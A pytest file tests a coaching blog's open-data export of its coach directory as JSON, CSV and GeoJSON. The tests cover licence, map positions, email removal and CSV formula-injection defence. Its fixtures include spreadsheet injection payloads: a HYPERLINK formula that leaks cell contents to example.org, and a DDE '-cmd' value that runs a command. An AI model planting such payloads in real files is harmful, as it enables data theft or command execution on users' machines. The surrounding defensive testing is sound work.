"""The coach directory as open data: /coaches/directory.json, .csv and .geojson and the page at
/coaches/data/ hold the coaches the finder shows, where its map puts them, under the site's licence,
with no email address, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from coachblog.coaches.open_data import FORMULA_STARTS
from coachblog.text import slugify
from tests.content import BIO, EVIL, FIXTURES, NAME, PLACE, QUALIFICATIONS, coach
from tests.helpers import BuildFailed, Site, by_class, hrefs, minimal_site, parse, site_path

EPOCH = "1768478400"  # 2026-01-15 12:00 UTC: SOURCE_DATE_EPOCH of these builds
FILES = ("directory.json", "directory.csv", "directory.geojson")
# Coaches whose text a spreadsheet would run as a formula, each a first character of FORMULA_STARTS.
FORMULAS = {
    "hal-hyperlink": ("Hal Hyperlink", '=HYPERLINK("https://example.org/x?leak="&A1,"Click me")'),
    "pat-plus": ("Pat Plus", "+1 for hill repeats: I coach them every Tuesday."),
    "mo-minus": ("Mo Minus", "-2 minutes off your parkrun is my promise."),
    "sam-sum": ("Sam Sum", "@SUM(A1:A9) runners trained so far."),
}
QUALIFICATION = "-cmd|' /C calc'!A0"  # a list item that starts a formula too
# RFC 7946 in brief: a FeatureCollection of Features whose geometry is a Point at [longitude, latitude]
# (or null), with no `crs` member anywhere it could be.
GEOJSON = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": ["type", "features"],
    "properties": {
        "type": {"const": "FeatureCollection"},
        "features": {"type": "array", "items": {"$ref": "#/$defs/feature"}},
    },
    "not": {"required": ["crs"]},
    "$defs": {
        "feature": {
            "type": "object",
            "required": ["type", "geometry", "properties"],
            "properties": {
                "type": {"const": "Feature"},
                "id": {"type": ["string", "number"]},
                "geometry": {"oneOf": [{"type": "null"}, {"$ref": "#/$defs/point"}]},
                "properties": {"type": ["object", "null"]},
            },
            "not": {"required": ["crs"]},
        },
        "point": {
            "type": "object",
            "required": ["type", "coordinates"],
            "properties": {
                "type": {"const": "Point"},
                "coordinates": {
                    "type": "array",
                    "minItems": 2,
                    "maxItems": 3,
                    "items": {"type": "number"},
                    "prefixItems": [
                        {"minimum": -180, "maximum": 180},
                        {"minimum": -90, "maximum": 90},
                    ],
                },
            },
            "not": {"required": ["crs"]},
        },
    },
}


def write_coaches(site: Site) -> Site:
    """The finder's seven made-up coaches, the hostile coach, and four whose bio is a formula."""
    for path in FIXTURES.glob("*.yml"):
        site.write(f"coaches/{path.name}", path.read_text(encoding="utf-8"))
    site.write("coaches/evil.yml", EVIL)
    for slug, (name, bio) in FORMULAS.items():
        site.write(
            f"coaches/{slug}.yml",
            coach(
                name=name,
                bio=json.dumps(bio),
                website=f"https://example.org/{slug}",
                email=f"{slug}@example.org",
                qualifications=json.dumps([QUALIFICATION, "UKA Leader in Running Fitness"]),
            ),
        )
    return site


def build(site: Site, **overrides: Any) -> Site:
    with pytest.MonkeyPatch.context() as env:
        env.setenv("SOURCE_DATE_EPOCH", EPOCH)
        site.build(**overrides)
    assert site.warnings == []
    return site


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A small site of twelve coaches, built once with SOURCE_DATE_EPOCH set."""
    return build(write_coaches(minimal_site(tmp_path_factory.mktemp("open-data"))))


def data_file(site: Site, name: str, folder: str = "coaches") -> Any:
    return json.loads((site.out / folder / name).read_text(encoding="utf-8"))


def csv_rows(site: Site) -> list[dict[str, str]]:
    raw = (site.out / "coaches" / "directory.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "no byte order mark"
    assert raw.endswith(b"\r\n") and b"\n" not in raw.replace(b"\r\n", b""), "CRLF between rows"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def finder_coaches(site: Site) -> Iterator[tuple[str, str, float | None, float | None]]:
    """(profile's site path, name, latitude, longitude) of every coach in the finder's own data."""
    page = parse(site.html("coaches/"))
    meta = json.loads(page.xpath("//script[@id='cb-coach-data']")[0].text)
    data = data_file(site, "finder/coaches.json")
    for name, slug, place in zip(data["name"], data["slug"], data["place"], strict=True):
        _, lat, lon = data["places"][place]
        href = meta["profile"][0] + (slug or slugify(name)) + meta["profile"][1]
        yield site_path(href, "coaches/"), name, lat and lat / 1000, lon and lon / 1000


def test_the_files_hold_exactly_the_coaches_the_finder_shows_where_it_puts_them(directory: Site) -> None:
    coaches = data_file(directory, "directory.json")["coaches"]
    site_url = directory.site_url
    shown = [
        (c["profile_url"].removeprefix(site_url), c["name"], c["latitude"], c["longitude"]) for c in coaches
    ]
    finder = list(finder_coaches(directory))
    assert shown == finder
    assert all(c["profile_url"].startswith(site_url) for c in coaches)
    assert all((directory.out / path / "index.html").is_file() for path, *_ in shown)
    assert len(coaches) == 12 and data_file(directory, "directory.json")["count"] == 12
    rows = csv_rows(directory)
    assert [r["slug"] for r in rows] == [c["slug"] for c in coaches]
    assert [(float(r["latitude"]), float(r["longitude"])) for r in rows] == [
        (c["latitude"], c["longitude"]) for c in coaches
    ]
    features = data_file(directory, "directory.geojson")["features"]
    assert [f["id"] for f in features] == [c["slug"] for c in coaches]


def test_each_coach_on_the_map_is_where_the_files_put_them(directory: Site) -> None:
    svg = parse((directory.out / "coaches" / "finder" / "map.svg").read_text(encoding="utf-8"))
    root = svg.xpath("//svg")[0] if svg.tag != "svg" else svg
    center, north, kx, ky = (float(root.get(f"data-{k}")) for k in ("center-lon", "north", "kx", "ky"))
    width = float(root.get("width"))
    by_slug = {c["slug"]: c for c in data_file(directory, "directory.json")["coaches"]}
    drawn = svg.xpath(f"//a[{by_class('cb-map__coach')}]")
    assert drawn, "the fixture has coaches drawn apart"
    for marker in drawn:
        dot = marker.xpath(f".//circle[{by_class('cb-map__dot')}]")[0]
        lon = center + (float(dot.get("cx")) - width / 2) / kx
        lat = north - float(dot.get("cy")) / ky
        entry = by_slug[marker.get("data-coach-id")]
        assert abs(entry["longitude"] - lon) < 0.01 and abs(entry["latitude"] - lat) < 0.01, entry["slug"]
    on_map = {marker.get("data-coach-id") for marker in drawn}
    on_map |= {i for ids in svg.xpath("//a/@data-coach-ids") for i in ids.split()}
    assert on_map == {slug for slug, c in by_slug.items() if c["coaching"] != ["online"]}


def test_the_geojson_is_an_rfc_7946_feature_collection_with_longitude_first(directory: Site) -> None:
    collection = data_file(directory, "directory.geojson")
    Draft202012Validator.check_schema(GEOJSON)
    errors = [e.message for e in Draft202012Validator(GEOJSON).iter_errors(collection)]
    assert errors == []
    coaches = {c["slug"]: c for c in data_file(directory, "directory.json")["coaches"]}
    for feature in collection["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        entry = coaches[feature["id"]]
        assert (lon, lat) == (entry["longitude"], entry["latitude"])
        assert -9 < lon < 2 and 49 < lat < 61, "Britain and Ireland: longitude first"
        assert feature["properties"] == {k: v for k, v in entry.items() if k not in ("latitude", "longitude")}
    assert collection["license"] == "CC-BY-4.0"


def test_the_json_names_its_licence_credit_and_the_builds_date(directory: Site) -> None:
    data = data_file(directory, "directory.json")
    assert data["license"] == "CC-BY-4.0"
    assert data["license_url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert "GeoNames" in data["attribution"] and "coaches" in data["attribution"]
    assert data["generated"] == "2026-01-15"
    assert data["documentation"] == directory.site_url + "coaches/data/"
    cai = next(c for c in data["coaches"] if c["slug"] == "cai-online")
    assert cai["online"] is True and cai["confirmed"] is None and cai["joined"] == "2025-10-06"


def test_hostile_text_is_plain_json_and_inert_in_the_csv(directory: Site) -> None:
    coaches = {c["slug"]: c for c in data_file(directory, "directory.json")["coaches"]}
    evil = coaches["evil"]
    assert (evil["name"], evil["place"], evil["bio"]) == (NAME, PLACE, BIO)
    assert evil["qualifications"] == QUALIFICATIONS
    for slug, (_, bio) in FORMULAS.items():
        assert coaches[slug]["bio"] == bio
        assert coaches[slug]["qualifications"][0] == QUALIFICATION
    rows = {row["slug"]: row for row in csv_rows(directory)}
    assert (rows["evil"]["name"], rows["evil"]["place"], rows["evil"]["bio"]) == (NAME, PLACE, BIO)
    for slug, (_, bio) in FORMULAS.items():
        assert rows[slug]["bio"] == "'" + bio
        assert rows[slug]["qualifications"] == f"'{QUALIFICATION}; UKA Leader in Running Fitness"
    for row in rows.values():
        for column, cell in row.items():
            if column not in ("latitude", "longitude"):
                assert not cell.startswith(FORMULA_STARTS), (row["slug"], column, cell)
    assert any(row["longitude"].startswith("-") for row in rows.values()), "numbers stay numbers"


def test_no_email_address_is_in_the_files_or_the_page(directory: Site) -> None:
    sources = [p.read_text(encoding="utf-8") for p in (directory.docs / "coaches").glob("*.yml")]
    emails = [m.group(1) for text in sources if (m := re.search(r"^email: (\S+)$", text, re.MULTILINE))]
    assert "evil@example.org" in emails and len(emails) > 5
    published = [(directory.out / "coaches" / name).read_text(encoding="utf-8") for name in FILES]
    published.append(directory.html("coaches/data/"))
    for text in published:
        assert not [email for email in emails if email in text]
        assert "mailto:" not in text and '"email"' not in text
    assert "email" not in csv_rows(directory)[0]


def test_two_builds_of_the_same_files_give_the_same_bytes(directory: Site, tmp_path: Path) -> None:
    again = build(write_coaches(minimal_site(tmp_path)))
    for name in FILES:
        assert (again.out / "coaches" / name).read_bytes() == (directory.out / "coaches" / name).read_bytes()
    assert again.html("coaches/data/") == directory.html("coaches/data/")


def test_the_data_page_documents_every_csv_column_and_links_the_files(directory: Site) -> None:
    header = next(csv.reader(io.StringIO((directory.out / "coaches" / "directory.csv").read_text("utf-8"))))
    page = parse(directory.html("coaches/data/"))
    documented = page.xpath("//table[.//th[normalize-space()='Column']]//tbody/tr/td[1]/code/text()")
    assert documented == header
    for row in page.xpath("//table[.//th[normalize-space()='Column']]//tbody/tr"):
        assert all(cell.text_content().strip() for cell in row.xpath("td")), "a meaning and a format each"
    links = {site_path(h, "coaches/data/") for h in hrefs(page, "//article//a")}
    assert {f"coaches/{name}" for name in FILES} <= links
    assert "https://creativecommons.org/licenses/by/4.0/" in links
    text = page.text_content()
    assert "Email addresses are left out" in text and "harvesters" in text
    assert "OWASP" in text and "apostrophe" in text


def test_the_finder_links_the_files_and_its_page_without_fetching_them(directory: Site) -> None:
    html = directory.html("coaches/")
    page = parse(html)
    credit = page.xpath(f"//p[{by_class('cb-finder__credit')}]")[0]
    assert " ".join(credit.text_content().split()).endswith(
        "Reuse this directory: JSON, CSV, GeoJSON, under CC BY 4.0."
    )
    links = [site_path(h, "coaches/") for h in hrefs(credit, ".//a")]
    assert links[2:] == ["coaches/data/", *(f"coaches/{name}" for name in FILES), links[-1]]
    for name in FILES:  # in links only: not in a script, stylesheet, preload or the inline data
        assert html.count(name) == 1, name
        assert credit.xpath(f".//a[@href='{name}']")


@pytest.mark.parametrize("spelled", ["ODbL-1.0", "odbl-1.0"])
def test_the_licence_option_changes_the_files_the_page_and_the_finder(
    spelled: str, make_site: Callable[..., Site]
) -> None:
    site = build(write_coaches(make_site(plugin_options={"coaches_licence": spelled})))
    for name in ("directory.json", "directory.geojson"):
        data = data_file(site, name)
        assert (data["license"], data["license_url"]) == (
            "ODbL-1.0",
            "https://opendatacommons.org/licenses/odbl/1-0/",
        )
    page = parse(site.html("coaches/data/"))
    assert "Open Data Commons Open Database License 1.0" in page.text_content()
    assert "https://opendatacommons.org/licenses/odbl/1-0/" in hrefs(page, "//article//a")
    credit = parse(site.html("coaches/")).xpath(f"//p[{by_class('cb-finder__credit')}]")[0]
    assert " ".join(credit.text_content().split()).endswith("under ODbL 1.0.")


def test_without_directory_urls_the_files_link_html_pages(make_site: Callable[..., Site]) -> None:
    site = build(write_coaches(make_site(extra_config={"use_directory_urls": False})))
    coaches = data_file(site, "directory.json")["coaches"]
    assert all(c["profile_url"] == f"{site.site_url}coaches/{c['slug']}.html" for c in coaches)
    assert (site.out / "coaches" / "data.html").is_file()
    credit = parse(site.html("coaches/index.html")).xpath(f"//p[{by_class('cb-finder__credit')}]")[0]
    assert "data.html" in hrefs(credit, ".//a")


def test_a_coach_file_cannot_take_the_data_pages_address(make_site: Callable[..., Site]) -> None:
    site = make_site()
    site.write("coaches/data.yml", coach())
    with pytest.raises(BuildFailed, match=r"docs/coaches/data\.yml.*any name but .*\bdata\b"):
        site.build()
